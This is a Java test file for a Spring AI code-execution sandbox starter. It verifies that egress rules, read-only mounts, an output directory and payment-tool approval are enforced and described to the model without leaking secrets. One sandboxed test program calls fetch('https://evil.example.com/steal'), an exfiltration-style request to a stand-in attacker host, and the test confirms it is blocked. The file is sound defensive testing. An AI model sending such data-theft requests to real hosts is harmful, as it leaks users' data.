package dev.codeact.spring.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.codeact.hyperlight.RequiresKvm;
import dev.codeact.spring.advisor.CodeActAdvisor;
import dev.codeact.spring.autoconfigure.CodeActAutoConfiguration;
import dev.codeact.spring.execution.CodeActExecutor;
import dev.codeact.spring.execution.CodeExecution;
import dev.codeact.spring.policy.approval.ApprovalDecision;
import dev.codeact.spring.policy.approval.ApprovalHandler;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.ai.chat.client.ChatClientRequest;
import org.springframework.ai.chat.messages.UserMessage;
import org.springframework.ai.chat.prompt.Prompt;
import org.springframework.ai.model.tool.ToolCallingChatOptions;
import org.springframework.ai.tool.ToolCallback;
import org.springframework.ai.tool.annotation.Tool;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.ai.chat.model.ToolContext;

/** Egress rules, mounts, /output and approval configured in properties, as a program and the model see them. */
class PoliciesThroughTheStarterTest {
    @TempDir
    Path data;

    static class PaymentTools {
        @Tool(description = "Pay an invoice.")
        String pay(String invoice) {
            return "paid " + invoice;
        }
    }

    private ApplicationContextRunner runner(String backend) throws Exception {
        Files.writeString(data.resolve("prices.csv"), "sku,eur\nKB-1,49.5\nMS-7,19\n");
        return new ApplicationContextRunner()
                .withConfiguration(AutoConfigurations.of(CodeActAutoConfiguration.class))
                .withBean(PaymentTools.class, PaymentTools::new)
                .withBean(ApprovalHandler.class, () -> request -> ApprovalDecision.deny("finance must approve " + request.argumentsJson()))
                .withPropertyValues("codeact.sandbox.backend=" + backend, "codeact.sandbox.pool-size=1",
                        "codeact.mounts[0].guest-path=/data", "codeact.mounts[0].host-path=" + data,
                        "codeact.egress.rules[0].scheme=https", "codeact.egress.rules[0].host=api.example.com",
                        "codeact.egress.rules[0].path-prefix=/v1/", "codeact.egress.rules[0].headers.Authorization=Bearer secret",
                        "codeact.tools.approval-required=pay");
    }

    @Test
    void theInstructionsSayExactlyWhatIsAllowedAndNoSecrets() throws Exception {
        runner("graaljs").run(context -> {
            CodeActAdvisor advisor = context.getBean(CodeActAdvisor.class);
            ChatClientRequest request = ChatClientRequest.builder()
                    .prompt(new Prompt(List.of(new UserMessage("hi")), ToolCallingChatOptions.builder().build())).context(Map.of()).build();
            String system = advisor.rewrite(request).prompt().getSystemMessage().getText();
            assertThat(system).contains("https://api.example.com:443/v1/...").contains("(credentials added by the host)")
                    .contains("/data (read-only)").contains("/output (writable")
                    .contains("declare function fetch(").contains("declare const fs:")
                    .contains("- Each call of these needs a person's approval and may be denied (ToolError): pay.")
                    .doesNotContain("secret").doesNotContain(data.toString());
        });
    }

    @Test
    void entryLimitsComeFromProperties() throws Exception {
        Path work = Files.createDirectories(data.resolve("work"));
        runner("graaljs").withPropertyValues("codeact.mounts[1].guest-path=/work", "codeact.mounts[1].host-path=" + work,
                "codeact.mounts[1].writable=true", "codeact.mounts[1].quota=1MB", "codeact.mounts[1].max-entries=5",
                "codeact.output.max-entries=7").run(context -> assertThat(context.getBean(SandboxServices.class).describe())
                        .contains("/data (read-only)", "/work (writable, 1MB, 5 entries)", "/output (writable, 10MB, 7 entries;"));
    }

    @Test
    void programsReadMountsWriteOutputAndGetDenialsOnGraalJs() throws Exception {
        runner("graaljs").run(context -> assertPolicies(context.getBean(CodeActExecutor.class)));
    }

    @Test
    @RequiresKvm
    void programsReadMountsWriteOutputAndGetDenialsOnKvm() throws Exception {
        runner("kvm").run(context -> assertPolicies(context.getBean(CodeActExecutor.class)));
    }

    private static void assertPolicies(CodeActExecutor executor) {
        CodeExecution run = executor.run("""
                const rows = fs.readFile('/data/prices.csv').trim().split('\\n').slice(1).map((l) => l.split(','));
                const total = rows.reduce((sum, [, eur]) => sum + Number(eur), 0);
                fs.writeFile('/output/total.json', {total});
                const denied = [];
                try { await fetch('https://evil.example.com/steal'); } catch (e) { denied.push(e.name + ': ' + e.message); }
                try { fs.writeFile('/data/prices.csv', 'x'); } catch (e) { denied.push(e.name + ': ' + e.message); }
                try { call_tool('pay', {invoice: 'INV-7'}); } catch (e) { denied.push(e.name + ': ' + e.message); }
                return {total, denied};""", executor.catalog().select(List.<ToolCallback>of()), new ToolContext(Map.of()));
        assertThat(run.result().error()).isNull();
        assertThat(run.result().resultJson()).contains("\"total\":68.5")
                .contains("TypeError: fetch denied")
                .contains("FileSystemError: ")
                .contains("ToolError: tool 'pay' needs approval and was denied: finance must approve {\\\"invoice\\\":\\\"INV-7\\\"}");
        assertThat(run.files()).singleElement().satisfies(f -> {
            assertThat(f.name()).isEqualTo("total.json");
            assertThat(f.mediaType()).isEqualTo("application/json");
            assertThat(f.content()).isEqualTo("{\"total\":68.5}");
        });
        assertThat(run.toolsCalled()).containsExactly("pay");
        assertThat(executor.run("fs.writeFile('/output/a.txt', 'hello'); return 1", Map.of("user", "ada")).files())
                .extracting(f -> f.name() + "=" + f.content()).containsExactly("a.txt=hello");
    }
}
